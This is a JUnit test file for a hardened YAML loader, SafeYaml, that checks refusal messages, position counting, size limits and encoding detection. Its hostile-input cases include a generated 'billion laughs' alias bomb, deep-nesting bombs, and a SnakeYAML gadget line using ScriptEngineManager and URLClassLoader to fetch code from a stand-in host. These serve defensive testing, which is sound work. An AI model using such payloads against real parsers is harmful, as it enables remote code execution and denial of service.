package org.slakit.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.BufferedWriter;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.Reader;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class SafeYamlTest {

    /** No hostile file may take longer than this to be refused. */
    private static final Duration QUICKLY = Duration.ofSeconds(20);

    private static String refusal(String text) {
        PolicyException e = assertTimeoutPreemptively(QUICKLY,
                () -> assertThrows(PolicyException.class, () -> SafeYaml.read(new StringReader(text), "evil.yaml")));
        return e.getMessage();
    }

    private static String billionLaughs() {
        StringBuilder sb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char before = (char) (c - 1);
            sb.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                sb.append(i == 0 ? "" : ",").append('*').append(before);
            }
            sb.append("]\n");
        }
        return sb.toString();
    }

    static Stream<Arguments> hostileFiles() {
        return Stream.of(
                // the billion laughs: refused at its first anchor, before any alias is seen
                Arguments.of(billionLaughs(), "evil.yaml:1:4: a: Anchors are not allowed, was &a"),
                // an anchor on a scalar, which Jackson 2 itself does not report
                Arguments.of("a: &x 1\n", "evil.yaml:1:4: a: Anchors are not allowed, was &x"),
                // an alias, even one whose anchor is missing
                Arguments.of("a: 1\nb: [2, *x]\n", "evil.yaml:2:8: b: Aliases are not allowed, was *x"),
                // a Java type tag: SnakeYAML's classic gadget
                Arguments.of("exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
                        "evil.yaml:1:10: exploit: Tags are not allowed, was !!javax.script.ScriptEngineManager"),
                // a standard tag is a tag too
                Arguments.of("region: !!str cn\n", "evil.yaml:1:9: region: Tags are not allowed, was !!str"),
                // a local tag
                Arguments.of("covers: !range {from: 2019-01-01}\n", "evil.yaml:1:9: covers: Tags are not allowed, was !range"),
                // 20,000 nested lists
                Arguments.of("a: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n",
                        // the root mapping is the first level: the 64th list is the 65th
                        "evil.yaml:1:67: a" + "[0]".repeat(62) + ": "
                                + "Nesting is deeper than the limit of 64 levels"),
                // 20,000 nested mappings
                Arguments.of("{a: ".repeat(20_000) + "}".repeat(20_000) + "\n",
                        "evil.yaml:1:257: " + String.join(".", java.util.Collections.nCopies(64, "a"))
                                + ": Nesting is deeper than the limit of 64 levels"),
                // a key given twice
                Arguments.of("region: cn\nname: x\nregion: hk\n", "evil.yaml:3:1: region: Key 'region' is given twice"),
                // two documents in one file
                Arguments.of("region: cn\n---\nregion: hk\n", "evil.yaml:3:1: File holds more than one YAML document: remove the second"),
                // nothing at all
                Arguments.of("# only a comment\n", "evil.yaml:1:1: File is empty: it must hold one YAML mapping"),
                // broken syntax
                Arguments.of("a: [1, 2\nb: 3\n", "evil.yaml:2:2: a: YAML syntax: expected ',' or ']', but got :"),
                // a control character, placed where it stands although SnakeYAML finds it when it fills its buffer
                Arguments.of("a: 1\nb: c\u0007 d\n", "evil.yaml:2:5: Character U+0007 is not allowed in YAML text"),
                // Ctrl-Z, as old DOS editors end a file, after a byte order mark
                Arguments.of("\uFEFFa: \u001A", "evil.yaml:1:4: Character U+001A is not allowed in YAML text"),
                // a NUL beyond the first buffer, after a line holding a character outside the BMP
                Arguments.of("a: \uD840\uDC00\nb: " + "x".repeat(3000) + "\u0000\n",
                        "evil.yaml:2:3004: Character U+0000 is not allowed in YAML text"));
    }

    @ParameterizedTest
    @MethodSource("hostileFiles")
    void read_hostileOrBrokenFile_refusedWithFileLineAndColumn(String text, String message) {
        assertEquals(message, refusal(text));
    }

    @Test
    void read_plainDocument_keepsPathsLinesAndText() {
        YamlNode root = SafeYaml.read(new StringReader("a: 2025-01-28\nb:\n  - {c: yes, d: ~}\n"), "ok.yaml");
        YamlNode c = root.locate("b[0].c");
        assertEquals("b[0].c", c.path());
        assertEquals("yes", c.text());
        assertEquals(3, c.line());
        assertEquals(9, c.column());
        assertEquals(true, root.locate("b[0].d").isNull());
        assertEquals("2025-01-28", root.get("a").orElseThrow().text());
        // a path beyond the tree stops at the deepest node on it
        assertEquals("b[0]", root.locate("b[0].hours[2]").path());
        assertEquals("b", root.locate("b[7]").path());
        // one past the last item, an index that is no number, an index into a single value, a bracket never closed
        assertEquals("b", root.locate("b[1]").path());
        assertEquals("b", root.locate("b[x]").path());
        assertEquals("a", root.locate("a[0]").path());
        assertEquals("b", root.locate("b[0").path());
    }

    static Stream<Arguments> positions() {
        return Stream.of(
                // NEL and U+2028 take a column and start no line, as an editor shows them
                Arguments.of("a: b\u0085c: d\n", "c", 1, 9),
                Arguments.of("a: b\u2028c: [d, e]\n", "c[1]", 1, 13),
                // a byte order mark takes no column
                Arguments.of("\uFEFFa: b\n", "a", 1, 4),
                // a character outside the BMP (two UTF-16 units) takes one column
                Arguments.of("a: [\uD840\uDC00\uD840\uDC00, x]\n", "a[1]", 1, 9),
                // and the lines after it start where an editor starts them
                Arguments.of("a: \uD840\uDC00\nb: [x, y]\n", "b[1]", 2, 8),
                // CRLF and a lone CR end one line each
                Arguments.of("a: 1\r\nb: [x, y]\r\n", "b[1]", 2, 8),
                Arguments.of("a: 1\rb: 2\rc: [x, y]\r", "c[1]", 3, 8),
                Arguments.of("a: 1\r\n\r\nb: [x, y]\r\n", "b[1]", 3, 8),
                // far beyond the reader's first buffer, on a long line and after one
                Arguments.of("a: [" + "x, ".repeat(1000) + "y]\n", "a[1000]", 1, 3005),
                Arguments.of("a: " + "x".repeat(3000) + "\nb: [1, y]\n", "b[1]", 2, 8));
    }

    @ParameterizedTest
    @MethodSource("positions")
    void read_node_isPlacedAsAnEditorCountsLinesAndColumns(String text, String path, int line, int column) {
        YamlNode node = SafeYaml.read(new StringReader(text), "ok.yaml").locate(path);
        assertEquals(path, node.path());
        assertEquals(List.of(line, column), List.of(node.line(), node.column()), text.length() > 40 ? text.substring(0, 40) : text);
    }

    /** 64 levels of nesting are read, the root mapping the first; the 65th is refused (see hostileFiles). */
    @Test
    void read_nestingOfExactlyTheLimit_isRead() {
        YamlNode root = SafeYaml.read(new StringReader("a: " + "[".repeat(63) + "1" + "]".repeat(63) + "\n"), "deep.yaml");
        YamlNode deepest = root.locate("a" + "[0]".repeat(63));
        assertEquals("1", deepest.text());
        assertEquals(67, deepest.column());
    }

    /** The limit is on characters read: exactly the limit is read, one more is refused where the reading stopped. */
    @Test
    void read_documentOfExactlyTheLimit_isRead_oneMoreIsRefused() {
        int limit = SafeYaml.MAX_CODE_POINTS;
        String exactly = "a: " + "x".repeat(limit - 4) + "\n";
        assertEquals(limit - 4, SafeYaml.read(new StringReader(exactly), "ok.yaml").get("a").orElseThrow().text().length());
        assertEquals(List.of("long.yaml:2:2: File is longer than the limit of 1048576 characters"),
                assertThrows(PolicyException.class, () -> SafeYaml.read(new StringReader(exactly + " "), "long.yaml")).lines());
        // a comment runs past the limit: the reading stops at its 1,048,577th character, on line 2
        String comment = "a: 1\n#" + "c".repeat(limit) + "\n";
        assertEquals(List.of("long.yaml:2:" + (limit - 3) + ": File is longer than the limit of 1048576 characters"),
                assertThrows(PolicyException.class, () -> SafeYaml.read(new StringReader(comment), "long.yaml")).lines());
    }

    @Test
    void read_reader_isClosedWhenDone() {
        boolean[] closed = {false};
        Reader reader = new StringReader("a: 1\n") {
            @Override
            public void close() {
                closed[0] = true;
                super.close();
            }
        };
        SafeYaml.read(reader, "ok.yaml");
        assertEquals(true, closed[0]);
    }

    /** A reader that fails is a failure to read, not a problem in the text; a strict decoder's failure says so. */
    @Test
    void read_readerFails_uncheckedIOExceptionNamingTheFileAndWhy() {
        Reader failing = new Reader() {
            @Override
            public int read(char[] buffer, int offset, int length) throws IOException {
                throw new IOException("disk gone");
            }

            @Override
            public void close() {
            }
        };
        assertEquals("Cannot read r.yaml: disk gone",
                assertThrows(UncheckedIOException.class, () -> SafeYaml.read(failing, "r.yaml")).getMessage());
        Reader strict = new InputStreamReader(new ByteArrayInputStream(new byte[] {'a', ':', ' ', (byte) 0xff, '\n'}),
                StandardCharsets.UTF_8.newDecoder());
        assertEquals("Cannot read r.yaml: it is not UTF-8 text",
                assertThrows(UncheckedIOException.class, () -> SafeYaml.read(strict, "r.yaml")).getMessage());
    }

    @Test
    void load_fortyMegabyteFile_refusedWithoutReadingItAll(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("huge.yaml");
        String entry = "  - {date: 2025-01-28, name: Spring Festival, name-zh: 春节}\n";
        try (BufferedWriter w = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            w.write("slakit-holidays: 1\nregion: cn\nname: huge\ncovers: {from: 2025-01-01, to: 2025-12-31}\ndays-off:\n");
            for (long written = 0; written < 40L * 1024 * 1024; written += entry.length() + 4) {
                w.write(entry);
            }
        }
        PolicyException e = assertTimeoutPreemptively(QUICKLY, () -> assertThrows(PolicyException.class, () -> HolidayYaml.load(file)));
        assertEquals(1, e.problems().size());
        assertEquals("File is longer than the limit of 1048576 characters", e.problems().get(0).message());
        assertEquals(true, e.getMessage().startsWith(file + ":"), e.getMessage());
    }

    @Test
    void load_fortyMegabyteScalar_refused(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("scalar.yaml");
        try (BufferedWriter w = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            w.write("name: ");
            String chunk = "x".repeat(1 << 16);
            for (int i = 0; i < 640; i++) {
                w.write(chunk);
            }
            w.write("\n");
        }
        PolicyException e = assertTimeoutPreemptively(QUICKLY, () -> assertThrows(PolicyException.class, () -> HolidayYaml.load(file)));
        assertEquals("File is longer than the limit of 1048576 characters", e.problems().get(0).message());
    }

    /** Bytes that are not UTF-8 are a problem in the file, at the first bad byte, whatever kind of file it is. */
    @Test
    void load_fileThatIsNotUtf8_isAProblemAtTheFirstBadByte(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("binary.yaml");
        Files.write(file, new byte[] {'a', ':', ' ', 'b', '\n', 'c', ':', ' ', (byte) 0xff, (byte) 0xfe, '\n'});
        String message = "The file is not UTF-8 text: byte 0xFF cannot be read as UTF-8: save the file as UTF-8";
        for (Executable load : List.<Executable>of(() -> PolicyYaml.load(file), () -> HolidayYaml.load(file),
                () -> TicketYaml.load(file, java.time.ZoneOffset.UTC))) {
            PolicyException e = assertThrows(PolicyException.class, load);
            assertEquals(List.of(file + ":2:4: " + message), e.lines());
        }
    }

    static Stream<Arguments> badBytes() {
        return Stream.of(
                // CRLF ends one line, a lone CR one line, a CR just before the bad byte one line
                Arguments.of(new byte[] {'a', ':', ' ', 'b', '\r', '\n', 'c', ':', ' ', (byte) 0xff}, 2, 4),
                Arguments.of(new byte[] {'a', ':', ' ', 'b', '\r', 'c', ':', ' ', (byte) 0xff}, 2, 4),
                Arguments.of(new byte[] {'a', ':', ' ', 'b', '\r', (byte) 0xff}, 2, 1),
                Arguments.of(new byte[] {'a', '\n', '\n', (byte) 0xff}, 3, 1),
                // U+1F600, four bytes and two UTF-16 units, takes one column
                Arguments.of(new byte[] {'a', ':', ' ', (byte) 0xf0, (byte) 0x9f, (byte) 0x98, (byte) 0x80, (byte) 0xff}, 1, 5));
    }

    @ParameterizedTest
    @MethodSource("badBytes")
    void load_badByte_isPlacedAsAnEditorCountsLinesAndColumns(byte[] bytes, int line, int column, @TempDir Path dir) throws Exception {
        Path file = dir.resolve("bad.yaml");
        Files.write(file, bytes);
        PolicyException.Located p = assertThrows(PolicyException.class, () -> PolicyYaml.load(file)).problems().get(0);
        assertEquals(List.of(line, column), List.of(p.line(), p.column()));
        assertEquals("The file is not UTF-8 text: byte 0xFF cannot be read as UTF-8: save the file as UTF-8", p.message());
        assertEquals(java.util.Optional.empty(), assertThrows(PolicyException.class, () -> PolicyYaml.load(file)).likelyEncoding());
    }

    /** A file of exactly the byte limit is read whole: a character cut short at its very end is not UTF-8, not too long. */
    @Test
    void load_fileOfExactlyTheByteLimit_endingInACutCharacter_isNotUtf8(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("limit.yaml");
        byte[] bytes = new byte[4 * SafeYaml.MAX_CODE_POINTS + 4];
        java.util.Arrays.fill(bytes, (byte) 'x');
        bytes[bytes.length - 1] = (byte) 0xe6;
        Files.write(file, bytes);
        PolicyException e = assertThrows(PolicyException.class, () -> PolicyYaml.load(file));
        assertEquals(List.of(file + ":1:" + bytes.length + ": The file is not UTF-8 text: byte 0xE6 cannot be read as UTF-8: save the file as UTF-8"),
                e.lines());
    }

    /** Text of Chinese characters alone, with no ASCII at all, is still recognised as GBK. */
    @Test
    void load_onlyChineseSavedAsGbk_namesGbk(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("gbk.yaml");
        Files.write(file, "暖气收费".getBytes(java.nio.charset.Charset.forName("GBK")));
        String message = assertThrows(PolicyException.class, () -> PolicyYaml.load(file)).problems().get(0).message();
        assertTrue(message.endsWith("or convert it with iconv -f GBK -t UTF-8"), message);
    }

    /** A policy saved as GBK, as Windows Notepad does: the message names the encoding and how to convert. */
    @Test
    void load_policySavedAsGbk_namesTheEncodingAndHowToConvert(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("gbk.yaml");
        Files.write(file, "slakit: 1\nname: 暖气收费系统售后服务\n".getBytes(java.nio.charset.Charset.forName("GBK")));
        PolicyException e = assertThrows(PolicyException.class, () -> PolicyYaml.load(file));
        PolicyException.Located p = e.problems().get(0);
        // 暖 is C5 AF in GBK, which UTF-8 reads as one character; 气 (C6 F8) is the first that cannot be read
        assertEquals(List.of(2, 8), List.of(p.line(), p.column()));
        assertEquals("The file is not UTF-8 text: byte 0xC6 cannot be read as UTF-8; it reads as GBK, as Windows Notepad"
                + " and many Chinese editors save: save it as UTF-8 (in Notepad: Save As, Encoding UTF-8), or convert it"
                + " with iconv -f GBK -t UTF-8", p.message());
        assertEquals(java.util.Optional.of(java.nio.charset.Charset.forName("GBK")), e.likelyEncoding());
    }

    /** A policy saved as Big5, as Traditional Chinese Windows does. */
    @Test
    void load_policySavedAsBig5_namesBig5First(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("big5.yaml");
        Files.write(file, "slakit: 1\nname: 香港收銀系統售後服務\n".getBytes(java.nio.charset.Charset.forName("Big5")));
        PolicyException e = assertThrows(PolicyException.class, () -> PolicyYaml.load(file));
        String message = e.problems().get(0).message();
        assertTrue(message.contains("; it reads as Big5"), message);
        assertTrue(message.endsWith("or convert it with iconv -f Big5 -t UTF-8"), message);
        assertEquals(java.util.Optional.of(java.nio.charset.Charset.forName("Big5")), e.likelyEncoding());
    }

    /** A UTF-8 policy read as GBK: the bytes read as UTF-8, and the exception says so. */
    @Test
    void load_utf8PolicyReadAsGbk_namesUtf8(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("utf8.yaml");
        Files.write(file, "slakit: 1\nname: 暖\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        PolicyException e = assertThrows(PolicyException.class, () -> PolicyYaml.load(file, java.nio.charset.Charset.forName("GBK")));
        // 暖 is E6 9A 96 in UTF-8: GBK reads E6 9A as one character, and 96 followed by the newline is not GBK
        assertEquals(List.of(file + ":2:8: The file is not GBK text: byte 0x96 cannot be read as GBK; it reads as UTF-8"), e.lines());
        assertEquals(java.util.Optional.of(java.nio.charset.StandardCharsets.UTF_8), e.likelyEncoding());
    }

    /** Lines are counted as an editor counts them: NEL and U+2028, which YAML 1.1 breaks at, start no line. */
    @Test
    void read_nelAndLineSeparatorInAOneLineFile_reportedOnLineOne() {
        for (String text : List.of("a: b\u0085c: [", "a: b\u2028c: [")) {
            PolicyException e = assertThrows(PolicyException.class, () -> PolicyYaml.read(text, "one-line.yaml"));
            assertEquals(1, e.problems().get(0).line(), text);
        }
    }

    /** CRLF and a lone CR each end one line. */
    @Test
    void read_crlfAndCrLineEnds_countOneLineEach() {
        for (String text : List.of("slakit: 1\r\nname: x\r\nzone: [", "slakit: 1\rname: x\rzone: [")) {
            PolicyException e = assertThrows(PolicyException.class, () -> PolicyYaml.read(text, "lines.yaml"));
            assertEquals(3, e.problems().get(0).line(), text.replace("\r", "<CR>"));
        }
    }

    /** A byte order mark takes no column where the first bad byte is placed. */
    @Test
    void load_bomThenBadByte_placedAsWithoutTheBom(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("bom.yaml");
        Files.write(file, new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, 'a', 'b', (byte) 0xFF});
        PolicyException e = assertThrows(PolicyException.class, () -> PolicyYaml.load(file));
        assertEquals(List.of(1, 3), List.of(e.problems().get(0).line(), e.problems().get(0).column()));
    }

    /** A file too long for the limit is placed where the reading stopped, its lines counted at CR as at LF. */
    @Test
    void read_tooLongWithCrLineEnds_countsItsLines() {
        String text = "# cccc\r".repeat(200_000);
        PolicyException e = assertThrows(PolicyException.class, () -> PolicyYaml.read(text, "cr.yaml"));
        assertEquals("File is longer than the limit of 1048576 characters", e.problems().get(0).message());
        assertTrue(e.problems().get(0).line() > 100_000, e.lines().toString());
    }

    /** A file cut at the size limit in the middle of a character is too long, not badly encoded. */
    @Test
    void load_longFileCutInsideACharacter_isTooLong(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("long.yaml");
        byte[] han = "汉".getBytes(java.nio.charset.StandardCharsets.UTF_8);
        byte[] bytes = new byte[4 * SafeYaml.MAX_CODE_POINTS + 9];
        bytes[0] = 'a';
        bytes[1] = ':';
        bytes[2] = ' ';
        for (int i = 3; i + 3 <= bytes.length; i += 3) {
            System.arraycopy(han, 0, bytes, i, 3);
        }
        Files.write(file, bytes);
        PolicyException e = assertThrows(PolicyException.class, () -> PolicyYaml.load(file));
        assertEquals("File is longer than the limit of 1048576 characters", e.problems().get(0).message());
    }

    @Test
    void read_policyNamingADirectoryAsItsHolidayFile_saysItCannotBeRead(@TempDir Path dir) throws Exception {
        Files.createDirectory(dir.resolve("holidays"));
        String policy = String.join("\n", "slakit: 1", "zone: UTC", "calendars:", "  office:", "    hours: {Mon-Fri: 09:00-18:00}",
                "    holidays: [{file: holidays}]", "severities: [severe]", "categories: {bug: []}",
                "targets: [{name: fix, stops-on: resolved, within: 4h}]", "");
        PolicyException e = assertThrows(PolicyException.class, () -> PolicyYaml.read(new StringReader(policy), "p.yaml", dir));
        assertEquals(java.util.List.of("p.yaml:6:16: calendars.office.holidays[0]: Holiday file 'holidays' cannot be read (looked for "
                + dir.resolve("holidays").toAbsolutePath().normalize() + ")"), e.lines());
    }
}
